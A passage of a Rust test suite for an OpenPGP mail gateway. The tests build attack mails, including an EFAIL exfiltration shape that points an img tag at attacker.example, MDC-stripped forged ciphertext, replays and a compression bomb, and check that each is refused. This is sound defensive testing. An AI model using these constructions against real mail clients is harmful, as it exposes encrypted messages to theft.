//! Inbound OpenPGP (SPEC §5.1, §5.2) with mail made by real GnuPG at test time: inline
//! `gpg --encrypt --sign` and `--clearsign`, PGP/MIME around `gpg --detach-sign` and
//! `gpg --encrypt` output, RSA-3072 and Ed25519/Cv25519 keys; and the attacks a gateway
//! that decrypts automatically must withstand.

mod gpg;
mod support;

use casegate::pgp::{Coverage, Protection, SigStatus};
use gpg::{headers, pgp_mime_encrypted, pgp_mime_signed, GpgHome, KeyKind};
use sequoia_openpgp as openpgp;
use std::sync::OnceLock;

const WORLD: &str = r#"
[gateway]
domain = "cert.example"
intake = ["security@cert.example"]
min_assurance = "address"

[[org]]
name = "CERT"
kind = "coordinator"
domains = ["cert.example"]
[[org]]
name = "Acme"
kind = "vendor"
domains = ["acme.example"]
[[org]]
name = "Globex"
kind = "vendor"
domains = ["globex.example"]

[[contact]]
email = "cora@cert.example"
name = "Cora"
org = "CERT"
[[contact]]
email = "alice@acme.example"
name = "Alice"
org = "Acme"
[[contact]]
email = "dave@acme.example"
name = "Dave"
org = "Acme"
[[contact]]
email = "bob@globex.example"
name = "Bob"
org = "Globex"

[[case]]
id = "VU#111111"
title = "Overflow in widgetd"
min_assurance = "signed"
participants = [{ org = "Acme", role = "vendor" }, { org = "Globex", role = "vendor" }]

[[case]]
id = "VU#222222"
title = "Plain case"
participants = [{ org = "Acme", role = "vendor" }, { org = "Globex", role = "vendor" }]
"#;

/// Secret keys made once per test process: alice (Ed25519/Cv25519), bob (RSA-3072),
/// mallory (Ed25519, nobody's contact key), dave (Ed25519, offered by Autocrypt only).
struct Keys {
    alice: Vec<u8>,
    bob: Vec<u8>,
    mallory: Vec<u8>,
    dave: Vec<u8>,
}

fn keys() -> &'static Keys {
    static KEYS: OnceLock<Keys> = OnceLock::new();
    KEYS.get_or_init(|| {
        let h = GpgHome::new();
        h.gen_key("Alice", "alice@acme.example", KeyKind::Ed25519, None, None);
        h.gen_key("Bob", "bob@globex.example", KeyKind::Rsa3072, None, None);
        h.gen_key(
            "Mallory",
            "mallory@evil.example",
            KeyKind::Ed25519,
            None,
            None,
        );
        h.gen_key("Dave", "dave@acme.example", KeyKind::Ed25519, None, None);
        Keys {
            alice: h.export_secret("alice@acme.example"),
            bob: h.export_secret("bob@globex.example"),
            mallory: h.export_secret("mallory@evil.example"),
            dave: h.export_secret("dave@acme.example"),
        }
    })
}

/// A gateway with its own key, alice's and bob's certificates confirmed, and one GnuPG
/// home holding every test person's secret key and the gateway's certificate.
struct World {
    gw: support::Gateway,
    home: GpgHome,
}

async fn world() -> World {
    let desc: support::WorldDesc = toml::from_str(WORLD).expect("world");
    let dir = tempfile::tempdir().expect("tempdir");
    gpg::write_gateway_key(dir.path(), "cert.example");
    let cfg = support::config(dir.path(), &desc.gateway);
    let store = casegate::store::Store::open(&cfg.database.url)
        .await
        .expect("store");
    support::seed(&store, &cfg.gateway.case_prefix, &desc).await;
    let pipeline = casegate::pipeline::Pipeline::new(store.clone(), &cfg);
    let home = GpgHome::new();
    let k = keys();
    for key in [&k.alice, &k.bob, &k.mallory, &k.dave] {
        home.import(key);
    }
    let gateway = cfg
        .pgp
        .keys
        .as_ref()
        .expect("gateway key")
        .armored_public()
        .expect("armor");
    home.import(gateway.as_bytes());
    for who in ["alice@acme.example", "bob@globex.example"] {
        let certs = casegate::pgp::keyring::parse_certs(&home.export(who)).expect("certs");
        store.import_keys(who, &certs).await.expect("import");
    }
    World {
        gw: support::Gateway {
            dir,
            cfg,
            store,
            pipeline,
        },
        home,
    }
}

const GATEWAY: &str = "cases@cert.example";

fn head(from: &str, to: &str, subject: &str, id: &str) -> String {
    headers(&[
        ("From", from),
        ("To", to),
        ("Subject", subject),
        ("Message-ID", &format!("<{id}@test.example>")),
        ("Date", "Wed, 25 Nov 2026 10:00:00 +0000"),
    ])
}

fn text_mail(head: &str, body: &[u8]) -> Vec<u8> {
    let mut out =
        format!("{head}MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n")
            .into_bytes();
    out.extend_from_slice(&gpg::crlf(body));
    out
}

struct Delivered {
    outcome: casegate::pipeline::Outcome,
    protection: Option<Protection>,
    body: Option<String>,
}

async fn deliver(w: &World, raw: &[u8]) -> Delivered {
    let outcome =
        w.gw.pipeline
            .ingest(raw, "test", "t")
            .await
            .expect("ingest");
    let json: Option<String> =
        sqlx::query_scalar("SELECT protection FROM inbound_messages WHERE id = $1")
            .bind(outcome.inbound_id)
            .fetch_one(&w.gw.store.pool)
            .await
            .expect("inbound row");
    let protection = json.map(|j| serde_json::from_str(&j).expect("protection json"));
    let body = match outcome.post_id {
        Some(id) => sqlx::query_scalar("SELECT body FROM posts WHERE id = $1")
            .bind(id)
            .fetch_optional(&w.gw.store.pool)
            .await
            .expect("post"),
        None => None,
    };
    Delivered {
        outcome,
        protection,
        body,
    }
}

/// Every stored byte that could hold released plaintext: post bodies, attachments, outbox.
async fn stored_text(w: &World) -> String {
    let pool = &w.gw.store.pool;
    let bodies: Vec<String> = sqlx::query_scalar("SELECT body FROM posts")
        .fetch_all(pool)
        .await
        .expect("posts");
    let atts: Vec<Vec<u8>> = sqlx::query_scalar("SELECT bytes FROM attachments")
        .fetch_all(pool)
        .await
        .expect("attachments");
    support::send(&w.gw).await;
    let outbox: Vec<Vec<u8>> = sqlx::query_scalar("SELECT bytes FROM outbox")
        .fetch_all(pool)
        .await
        .expect("outbox");
    let mut all = bodies.join("\n");
    for b in atts.iter().chain(&outbox) {
        all.push_str(&String::from_utf8_lossy(b));
    }
    all
}

fn prot(d: &Delivered) -> &Protection {
    d.protection
        .as_ref()
        .unwrap_or_else(|| panic!("no protection recorded: {:?}", d.outcome))
}

#[tokio::test(flavor = "multi_thread")]
async fn inline_encrypt_and_sign_by_rsa3072_and_ed25519_posts_as_signed() {
    let w = world().await;
    for (i, who) in ["alice@acme.example", "bob@globex.example"]
        .into_iter()
        .enumerate()
    {
        let armored = w.home.encrypt_sign(
            who,
            GATEWAY,
            format!("Inline details from {who}.\n").as_bytes(),
        );
        let mail = text_mail(
            &head(
                who,
                "cases+vu111111@cert.example",
                "Re: [VU#111111] details",
                &format!("inline{i}"),
            ),
            &armored,
        );
        let d = deliver(&w, &mail).await;
        assert_eq!(
            (
                d.outcome.decision.as_str(),
                d.outcome.assurance.map(|a| a.as_str())
            ),
            ("post", Some("signed")),
            "{who}: {:?}",
            d.outcome
        );
        let p = prot(&d);
        assert!(
            p.encrypted && p.signature == SigStatus::Good && p.coverage == Coverage::Full,
            "{p:?}"
        );
        assert_eq!(
            d.body.as_deref().map(str::trim),
            Some(format!("Inline details from {who}.").as_str())
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn clearsigned_body_is_signed_and_text_around_it_makes_it_partial() {
    let w = world().await;
    let block = w
        .home
        .clearsign("alice@acme.example", b"Only this is signed.\n", None);
    let whole = text_mail(
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] c",
            "clear1",
        ),
        &block,
    );
    let d = deliver(&w, &whole).await;
    assert_eq!(
        d.outcome.assurance.map(|a| a.as_str()),
        Some("signed"),
        "{:?}",
        d.outcome
    );
    assert_eq!(
        d.body.as_deref().map(str::trim),
        Some("Only this is signed."),
        "only the inner text is posted"
    );
    for (i, (before, after)) in [
        ("Unsigned text before.\n\n", ""),
        ("", "\nUnsigned text after.\n"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut body = before.as_bytes().to_vec();
        body.extend_from_slice(&block);
        body.extend_from_slice(after.as_bytes());
        let mail = text_mail(
            &head(
                "alice@acme.example",
                "cases+vu111111@cert.example",
                "[VU#111111] c",
                &format!("clear-around{i}"),
            ),
            &body,
        );
        let d = deliver(&w, &mail).await;
        assert_eq!(
            d.outcome.reason, "below-assurance",
            "partially signed is not signed: {:?}",
            d.outcome
        );
        let p = prot(&d);
        assert_eq!(
            (p.signature, p.coverage, p.signed_parts.clone()),
            (
                SigStatus::Good,
                Coverage::Partial,
                vec!["cleartext-block".to_string()]
            )
        );
    }
}

const ENTITY: &str = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n\r\nSigned with PGP/MIME.\r\nSecond line.\r\n";

#[tokio::test(flavor = "multi_thread")]
async fn pgp_mime_signed_verifies_also_as_lf_copy_and_a_changed_byte_fails() {
    let w = world().await;
    for (i, who) in ["alice@acme.example", "bob@globex.example"]
        .into_iter()
        .enumerate()
    {
        let mail = pgp_mime_signed(
            &w.home,
            who,
            &head(
                who,
                "cases+vu111111@cert.example",
                "[VU#111111] s",
                &format!("mime{i}"),
            ),
            ENTITY.as_bytes(),
            None,
        );
        let d = deliver(&w, &mail).await;
        assert_eq!(
            d.outcome.assurance.map(|a| a.as_str()),
            Some("signed"),
            "{who}: {:?}",
            d.outcome
        );
        assert!(
            d.body
                .as_deref()
                .is_some_and(|b| b.starts_with("Signed with PGP/MIME.")),
            "{:?}",
            d.body
        );
        let lf = String::from_utf8_lossy(&mail)
            .replace("\r\n", "\n")
            .replace(&format!("mime{i}@"), &format!("mime-lf{i}@"));
        let d = deliver(&w, lf.as_bytes()).await;
        assert_eq!(
            d.outcome.assurance.map(|a| a.as_str()),
            Some("signed"),
            "LF-only copy: {:?}",
            d.outcome
        );
        let changed = lf
            .replace("Second line.", "Second line!")
            .replace("mime-lf", "mime-changed");
        let d = deliver(&w, changed.as_bytes()).await;
        assert_eq!(d.outcome.reason, "below-assurance", "{:?}", d.outcome);
        assert_eq!(prot(&d).signature, SigStatus::Bad);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn signed_part_in_a_wrapper_with_an_unsigned_footer_is_partially_signed() {
    let w = world().await;
    let signed = pgp_mime_signed(&w.home, "alice@acme.example", "", ENTITY.as_bytes(), None);
    let signed = String::from_utf8_lossy(&signed).replacen("MIME-Version: 1.0\r\n", "", 1);
    let mail = format!(
        "{}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"list\"\r\n\r\n--list\r\n{signed}\r\n--list\r\nContent-Type: text/plain\r\n\r\n_______________\r\nwidgetd-security mailing list\r\n--list--\r\n",
        head("alice@acme.example", "cases+vu111111@cert.example", "[VU#111111] footer", "footer")
    );
    let d = deliver(&w, mail.as_bytes()).await;
    assert_eq!(d.outcome.reason, "below-assurance", "{:?}", d.outcome);
    let p = prot(&d);
    assert_eq!(
        (p.signature, p.coverage, p.signed_parts.clone()),
        (SigStatus::Good, Coverage::Partial, vec!["1".to_string()])
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_good_signature_by_someone_else_is_evidence_not_identity() {
    let w = world().await;
    // Mallory's key is known to the gateway, but registered to nobody's From address.
    let certs =
        casegate::pgp::keyring::parse_certs(&w.home.export("mallory@evil.example")).expect("certs");
    w.gw.store
        .import_keys("dave@acme.example", &certs)
        .await
        .expect("import");
    let mail = pgp_mime_signed(
        &w.home,
        "mallory@evil.example",
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] x",
            "other-signer",
        ),
        ENTITY.as_bytes(),
        None,
    );
    let d = deliver(&w, &mail).await;
    assert_eq!(d.outcome.reason, "below-assurance", "{:?}", d.outcome);
    let p = prot(&d);
    assert_eq!(
        (p.signature, p.signer_contact),
        (SigStatus::Good, None),
        "{p:?}"
    );
}

/// RFC 3156 §6.2 combined, and §6.1 nested signing then encryption, with protected headers.
#[tokio::test(flavor = "multi_thread")]
async fn pgp_mime_encrypted_with_protected_subject_routes_by_the_inner_subject() {
    let w = world().await;
    let inner = "Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\nSubject: [VU#111111] The real subject\r\nFrom: alice@acme.example\r\n\r\nEncrypted body.\r\n";
    for (i, outer) in ["...", "[...]"].into_iter().enumerate() {
        let armored = w
            .home
            .encrypt_sign("alice@acme.example", GATEWAY, inner.as_bytes());
        let mail = pgp_mime_encrypted(
            &head(
                "alice@acme.example",
                GATEWAY,
                outer,
                &format!("protected{i}"),
            ),
            &armored,
        );
        let d = deliver(&w, &mail).await;
        assert_eq!(
            (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
            ("post", "subject-token"),
            "{:?}",
            d.outcome
        );
        assert_eq!(d.outcome.thread.as_deref(), Some("discussion:VU#111111"));
        assert_eq!(d.outcome.assurance.map(|a| a.as_str()), Some("signed"));
        assert!(prot(&d).protected_headers);
        assert_eq!(d.body.as_deref().map(str::trim), Some("Encrypted body."));
    }
    // Nested: a multipart/signed entity, then encrypted without a signature of its own.
    let inner = inner.replace("From: alice@acme.example", "From: bob@globex.example");
    let signed = pgp_mime_signed(&w.home, "bob@globex.example", "", inner.as_bytes(), None);
    let signed = String::from_utf8_lossy(&signed).replacen("MIME-Version: 1.0\r\n", "", 1);
    let armored = w.home.encrypt(GATEWAY, signed.as_bytes());
    let mail = pgp_mime_encrypted(
        &head("bob@globex.example", GATEWAY, "...", "nested"),
        &armored,
    );
    let d = deliver(&w, &mail).await;
    assert_eq!(
        (
            d.outcome.reason.as_str(),
            d.outcome.assurance.map(|a| a.as_str())
        ),
        ("subject-token", Some("signed")),
        "{:?}",
        d.outcome
    );
    // A protected From naming someone else than the outer From: the signer is not bound.
    let forged = inner.replace("From: bob@globex.example", "From: alice@acme.example");
    let signed = pgp_mime_signed(&w.home, "bob@globex.example", "", forged.as_bytes(), None);
    let signed = String::from_utf8_lossy(&signed).replacen("MIME-Version: 1.0\r\n", "", 1);
    let mail = pgp_mime_encrypted(
        &head("bob@globex.example", GATEWAY, "...", "nested-from"),
        &w.home.encrypt(GATEWAY, signed.as_bytes()),
    );
    let d = deliver(&w, &mail).await;
    assert_eq!(d.outcome.reason, "below-assurance", "{:?}", d.outcome);
}

#[tokio::test(flavor = "multi_thread")]
async fn quoted_ciphertext_in_a_reply_is_never_decrypted() {
    let w = world().await;
    let armored =
        String::from_utf8(w.home.encrypt(GATEWAY, b"Secret quoted plaintext.\n")).expect("ascii");
    let quoted: String = armored.lines().map(|l| format!("> {l}\n")).collect();
    let body = format!("I agree with the below.\n\nOn Monday Alice wrote:\n{quoted}");
    let d = deliver(
        &w,
        &text_mail(
            &head(
                "bob@globex.example",
                "cases+vu222222@cert.example",
                "Re: [VU#222222] x",
                "quoted",
            ),
            body.as_bytes(),
        ),
    )
    .await;
    assert_eq!(d.outcome.decision, "post", "{:?}", d.outcome);
    assert!(d
        .body
        .as_deref()
        .is_some_and(|b| b.contains("> -----BEGIN PGP MESSAGE-----")));
    assert!(!stored_text(&w).await.contains("Secret quoted plaintext"));
    assert!(prot(&d).notes.iter().any(|n| n.contains("not opened")));
}

#[tokio::test(flavor = "multi_thread")]
async fn efail_direct_exfiltration_shape_keeps_parts_isolated() {
    let w = world().await;
    let armored = w.home.encrypt(
        GATEWAY,
        b"Content-Type: text/plain\r\n\r\nEFAIL secret plaintext.\r\n",
    );
    let encrypted = pgp_mime_encrypted("", &armored);
    let encrypted = String::from_utf8_lossy(&encrypted).replacen("MIME-Version: 1.0\r\n", "", 1);
    let mail = format!(
        "{}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n\
         --efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n\
         --efail\r\n{encrypted}\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n",
        head(
            "bob@globex.example",
            "cases+vu222222@cert.example",
            "Re: [VU#222222] x",
            "efail"
        )
    );
    let d = deliver(&w, mail.as_bytes()).await;
    let p = prot(&d);
    assert!(
        !p.encrypted && p.notes.iter().any(|n| n.contains("EFAIL")),
        "{p:?}"
    );
    let stored = stored_text(&w).await;
    assert!(
        !stored.contains("EFAIL secret plaintext"),
        "plaintext released"
    );
    let atts: Vec<String> = sqlx::query_scalar("SELECT content_type FROM attachments")
        .fetch_all(&w.gw.store.pool)
        .await
        .expect("atts");
    assert!(
        atts.iter().any(|c| c.starts_with("text/html")),
        "HTML kept as an attachment, not rendered: {atts:?}"
    );
}

/// PKESK to the gateway's encryption subkey + a hand-made encrypted packet (`tag`),
/// optionally without the MDC (RFC 9580 §5.13.1).
fn forged_message(gateway: &openpgp::Cert, tag: u8, with_mdc: bool) -> Vec<u8> {
    use openpgp::crypto::symmetric::{BlockCipherMode, Encryptor, PaddingMode};
    use openpgp::crypto::SessionKey;
    use openpgp::serialize::Serialize;
    use openpgp::types::SymmetricAlgorithm;
    use sha1_free::sha1;
    let algo = SymmetricAlgorithm::AES256;
    let sk = SessionKey::new(32).expect("session key");
    let subkey = gateway.keys().subkeys().next().expect("encryption subkey");
    let pkesk =
        openpgp::packet::pkesk::PKESK3::for_recipient(algo, &sk, subkey.key()).expect("pkesk");
    let mut out = Vec::new();
    openpgp::Packet::from(openpgp::packet::PKESK::from(pkesk))
        .serialize(&mut out)
        .expect("serialize");
    // RFC 9580 §5.9: a literal data packet, binary, no file name, no date.
    let data = b"Content-Type: text/plain\r\n\r\nForged secret plaintext.\r\n";
    let mut literal = vec![0xCB, (6 + data.len()) as u8, b'b', 0, 0, 0, 0, 0];
    literal.extend_from_slice(data);
    let mut plain = vec![7u8; 16];
    plain.extend_from_slice(&[7, 7]);
    plain.extend_from_slice(&literal);
    if with_mdc {
        plain.extend_from_slice(&[0xD3, 0x14]);
        let digest = sha1(&plain);
        plain.extend_from_slice(&digest);
    }
    let mut ct = Vec::new();
    {
        let mut e = Encryptor::new(
            algo,
            BlockCipherMode::CFB,
            PaddingMode::None,
            &sk,
            None,
            &mut ct,
        )
        .expect("cfb");
        std::io::Write::write_all(&mut e, &plain).expect("encrypt");
        e.finalize().expect("finalize");
    }
    let mut body = if tag == 18 { vec![1u8] } else { Vec::new() };
    body.extend_from_slice(&ct);
    out.push(0xC0 | tag);
    out.push(0xFF);
    out.extend_from_slice(&(body.len() as u32).to_be_bytes());
    out.extend_from_slice(&body);
    out
}

/// SHA-1 for the MDC of the forged control message (RFC 9580 §5.13.1 still uses it).
mod sha1_free {
    pub fn sha1(data: &[u8]) -> Vec<u8> {
        use sequoia_openpgp::types::HashAlgorithm;
        let mut ctx = HashAlgorithm::SHA1.context().expect("sha1").for_digest();
        ctx.update(data);
        ctx.into_digest().expect("digest")
    }
}

fn armor_message(binary: &[u8]) -> Vec<u8> {
    let mut w =
        openpgp::armor::Writer::new(Vec::new(), openpgp::armor::Kind::Message).expect("armor");
    std::io::Write::write_all(&mut w, binary).expect("write");
    w.finalize().expect("finalize")
}

#[tokio::test(flavor = "multi_thread")]
async fn stripped_mdc_flipped_byte_and_sed_are_refused_without_plaintext() {
    let w = world().await;
    let gateway = w.gw.cfg.pgp.keys.as_ref().expect("keys").public_cert();
    // The control: the same construction with its MDC decrypts and posts.
    let good = pgp_mime_encrypted(
        &head(
            "alice@acme.example",
            "cases+vu222222@cert.example",
            "[VU#222222] c",
            "forged-ok",
        ),
        &armor_message(&forged_message(&gateway, 18, true)),
    );
    let d = deliver(&w, &good).await;
    assert_eq!(
        d.outcome.decision, "post",
        "{:?} {:?}",
        d.outcome, d.protection
    );
    sqlx::query("DELETE FROM outbox")
        .execute(&w.gw.store.pool)
        .await
        .expect("clear");
    sqlx::query("UPDATE posts SET body = ''")
        .execute(&w.gw.store.pool)
        .await
        .expect("clear");
    let binary = w.home.gpg(
        &["--encrypt", "--recipient", GATEWAY],
        b"Flipped secret plaintext.\n",
    );
    let mut flipped = binary.clone();
    let n = flipped.len();
    flipped[n - 5] ^= 0x01; // inside the MDC digest, the last packet of SEIPDv1
    let cases = [
        (
            "stripped-mdc",
            armor_message(&forged_message(&gateway, 18, false)),
        ),
        ("sed", armor_message(&forged_message(&gateway, 9, false))),
        ("flipped", armor_message(&flipped)),
    ];
    for (name, armored) in cases {
        let mail = pgp_mime_encrypted(
            &head(
                "alice@acme.example",
                "cases+vu222222@cert.example",
                "[VU#222222] c",
                name,
            ),
            &armored,
        );
        let d = deliver(&w, &mail).await;
        assert_eq!(
            (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
            ("quarantine", "pgp-refused"),
            "{name}: {:?}",
            d.outcome
        );
        assert!(prot(&d).refusal.is_some());
    }
    let stored = stored_text(&w).await;
    assert!(
        !stored.contains("Forged secret") && !stored.contains("Flipped secret"),
        "plaintext released"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn sha1_and_ripemd160_data_signatures_are_refused() {
    let w = world().await;
    for (i, digest) in ["SHA1", "RIPEMD160"].into_iter().enumerate() {
        let mail = pgp_mime_signed(
            &w.home,
            "alice@acme.example",
            &head(
                "alice@acme.example",
                "cases+vu222222@cert.example",
                "[VU#222222] w",
                &format!("weak{i}"),
            ),
            ENTITY.as_bytes(),
            Some(digest),
        );
        let d = deliver(&w, &mail).await;
        assert_eq!(d.outcome.reason, "pgp-refused", "{digest}: {:?}", d.outcome);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_same_ciphertext_from_another_sender_or_thread_is_refused() {
    let w = world().await;
    let armored = w.home.encrypt_sign(
        "alice@acme.example",
        GATEWAY,
        b"Alice's confidential note.\n",
    );
    let first = pgp_mime_encrypted(
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] n",
            "orig",
        ),
        &armored,
    );
    assert_eq!(deliver(&w, &first).await.outcome.decision, "post");
    let replay = pgp_mime_encrypted(
        &head(
            "bob@globex.example",
            "cases+vu111111@cert.example",
            "Re: [VU#111111] n",
            "replay",
        ),
        &armored,
    );
    let d = deliver(&w, &replay).await;
    assert_eq!(
        (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
        ("quarantine", "ciphertext-replayed"),
        "{:?}",
        d.outcome
    );
    let elsewhere = pgp_mime_encrypted(
        &head(
            "alice@acme.example",
            "cases+vu222222@cert.example",
            "[VU#222222] n",
            "elsewhere",
        ),
        &armored,
    );
    assert_eq!(
        deliver(&w, &elsewhere).await.outcome.reason,
        "ciphertext-replayed"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn replayed_ciphertext_is_refused_before_decrypting_wherever_it_sits() {
    let w = world().await;
    let armored = w.home.encrypt_sign(
        "alice@acme.example",
        GATEWAY,
        b"Content-Type: text/plain\r\n\r\nAlice's embargoed details.\r\n",
    );
    let first = pgp_mime_encrypted(
        &head("alice@acme.example", "cases+vu111111@cert.example", "[VU#111111] n", "first"),
        &armored,
    );
    assert_eq!(deliver(&w, &first).await.outcome.decision, "post");
    // At the root, sent to the intake address by someone else: no report, nothing decrypted.
    let to_intake = pgp_mime_encrypted(
        &head("bob@globex.example", "security@cert.example", "new report", "replay-root"),
        &armored,
    );
    let d = deliver(&w, &to_intake).await;
    assert_eq!(
        (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
        ("quarantine", "ciphertext-replayed"),
        "{:?}",
        d.outcome
    );
    assert_eq!(prot(&d).decrypted_with, None, "decrypted before it was refused: {:?}", prot(&d));
    let reports: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM reports")
        .fetch_one(&w.gw.store.pool)
        .await
        .expect("reports");
    assert_eq!(reports, 0, "a report was opened for replayed ciphertext");
    // Below the root (a forwarded encrypted part, the EFAIL shape): compared all the same.
    let encrypted = pgp_mime_encrypted("", &armored);
    let encrypted = String::from_utf8_lossy(&encrypted).replacen("MIME-Version: 1.0\r\n", "", 1);
    let nested = format!(
        "{}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"fw\"\r\n\r\n\
         --fw\r\nContent-Type: text/plain\r\n\r\nForwarding this.\r\n--fw\r\n{encrypted}\r\n--fw--\r\n",
        head("bob@globex.example", "cases+vu222222@cert.example", "Fwd: [VU#222222] x", "replay-nested")
    );
    let d = deliver(&w, nested.as_bytes()).await;
    assert_eq!(
        (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
        ("quarantine", "ciphertext-replayed"),
        "{:?}",
        d.outcome
    );
}

/// A small message whose compressed data expands past the limit is refused, and nothing of
/// it is kept (RFC 9580 §5.6 compressed data is decompressed only as far as it is read).
#[tokio::test(flavor = "multi_thread")]
async fn a_compression_bomb_is_refused_at_the_limit() {
    let w = world().await;
    let zeros = vec![b'0'; 40 * 1024 * 1024];
    let armored = w.home.encrypt_compressed(GATEWAY, &zeros);
    assert!(armored.len() < 1024 * 1024, "the bomb is small: {} bytes", armored.len());
    let mail = pgp_mime_encrypted(
        &head("alice@acme.example", "cases+vu222222@cert.example", "[VU#222222] z", "bomb"),
        &armored,
    );
    let d = deliver(&w, &mail).await;
    assert_eq!(
        (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
        ("quarantine", "pgp-refused"),
        "{:?}",
        d.outcome
    );
    assert!(d.outcome.reason_detail.contains("larger than"), "{}", d.outcome.reason_detail);
}

/// RFC 9580 §5.2.3.36: Alice signed for Bob; the signed message re-encrypted to the gateway
/// (surreptitious forwarding) is not a good signature.
#[tokio::test(flavor = "multi_thread")]
async fn a_signature_meant_for_another_recipient_is_not_good() {
    use openpgp::parse::Parse;
    use openpgp::policy::StandardPolicy;
    use openpgp::serialize::stream::{Armorer, Encryptor, LiteralWriter, Message, Signer};
    let w = world().await;
    let policy = StandardPolicy::new();
    let alice = openpgp::Cert::from_bytes(&keys().alice).expect("alice");
    let bob = openpgp::Cert::from_bytes(&w.home.export("bob@globex.example")).expect("bob");
    let gateway = w.gw.cfg.pgp.keys.as_ref().expect("keys").public_cert();
    let signer = alice
        .keys()
        .unencrypted_secret()
        .with_policy(&policy, None)
        .for_signing()
        .next()
        .expect("signing key")
        .key()
        .clone()
        .into_keypair()
        .expect("pair");
    let recipients: Vec<_> = gateway
        .keys()
        .with_policy(&policy, None)
        .for_transport_encryption()
        .collect();
    let mut out = Vec::new();
    {
        let m = Armorer::new(Message::new(&mut out)).build().expect("armor");
        let m = Encryptor::for_recipients(m, recipients)
            .build()
            .expect("encrypt");
        let m = Signer::new(m, signer)
            .expect("signer")
            .add_intended_recipient(&bob)
            .build()
            .expect("sign");
        let mut l = LiteralWriter::new(m).build().expect("literal");
        std::io::Write::write_all(
            &mut l,
            b"Content-Type: text/plain\r\n\r\nMeant for Bob.\r\n",
        )
        .expect("write");
        l.finalize().expect("finalize");
    }
    let mail = pgp_mime_encrypted(
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] fwd",
            "forwarded",
        ),
        &out,
    );
    let d = deliver(&w, &mail).await;
    assert_eq!(d.outcome.reason, "below-assurance", "{:?}", d.outcome);
    let p = prot(&d);
    assert_eq!(p.signature, SigStatus::Bad, "{p:?}");
    assert!(
        p.signature_detail
            .as_deref()
            .is_some_and(|s| s.contains("intended recipient")),
        "{p:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn autocrypt_headers_are_ignored_unless_exactly_one_matches_from() {
    let w = world().await;
    let keydata = {
        let exported = w.home.gpg(&["--export", "dave@acme.example"], b"");
        data_encoding::BASE64.encode(&exported)
    };
    let candidates = |w: &World| {
        let pool = w.gw.store.pool.clone();
        async move {
            sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM certs k JOIN contacts c ON c.id = k.contact_id WHERE c.email = 'dave@acme.example'")
                .fetch_one(&pool)
                .await
                .expect("count")
        }
    };
    let mail = |id: &str, autocrypt: &[String]| {
        let mut h = head(
            "dave@acme.example",
            "cases+vu222222@cert.example",
            "[VU#222222] hi",
            id,
        );
        for a in autocrypt {
            h.push_str(&format!("Autocrypt: {a}\r\n"));
        }
        text_mail(&h, b"Hello.\n")
    };
    let other = format!("addr=mallory@evil.example; keydata={keydata}");
    assert_eq!(
        deliver(&w, &mail("ac1", &[other])).await.outcome.decision,
        "post"
    );
    assert_eq!(candidates(&w).await, 0, "addr differs from From");
    let good = format!("addr=dave@acme.example; prefer-encrypt=mutual; keydata={keydata}");
    deliver(&w, &mail("ac2", &[good.clone(), good.clone()])).await;
    assert_eq!(candidates(&w).await, 0, "two headers");
    deliver(&w, &mail("ac3", &[good])).await;
    assert_eq!(candidates(&w).await, 1, "one matching header: a candidate");
    let confirmed: i64 =
        sqlx::query_scalar("SELECT CAST(confirmed AS INTEGER) FROM certs WHERE source = 'autocrypt'")
            .fetch_one(&w.gw.store.pool)
            .await
            .expect("row");
    let confirmed = confirmed != 0;
    assert!(!confirmed);
    // A candidate never authenticates: Dave's signature does not reach `signed`.
    let signed = pgp_mime_signed(
        &w.home,
        "dave@acme.example",
        &head(
            "dave@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] s",
            "dave-signed",
        ),
        ENTITY.as_bytes(),
        None,
    );
    let d = deliver(&w, &signed).await;
    assert_eq!(d.outcome.reason, "below-assurance", "{:?}", d.outcome);
    assert_eq!(prot(&d).signature, SigStatus::Good);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_signed_case_holds_unsigned_and_badly_signed_mail() {
    let w = world().await;
    let plain = text_mail(
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] p",
            "unsigned",
        ),
        b"No signature.\n",
    );
    let d = deliver(&w, &plain).await;
    assert_eq!(
        d.outcome.reason_detail,
        "below-assurance: sender assurance address, policy needs signed"
    );
    let bad = pgp_mime_signed(
        &w.home,
        "alice@acme.example",
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] p",
            "badsig",
        ),
        ENTITY.as_bytes(),
        None,
    );
    let bad = String::from_utf8_lossy(&bad).replace("Second line.", "Second line?");
    assert_eq!(
        deliver(&w, bad.as_bytes()).await.outcome.reason,
        "below-assurance"
    );
    let undecryptable = pgp_mime_encrypted(
        &head(
            "alice@acme.example",
            "cases+vu111111@cert.example",
            "[VU#111111] p",
            "notforus",
        ),
        &w.home.encrypt("bob@globex.example", b"x"),
    );
    let d = deliver(&w, &undecryptable).await;
    assert_eq!(
        (d.outcome.decision.as_str(), d.outcome.reason.as_str()),
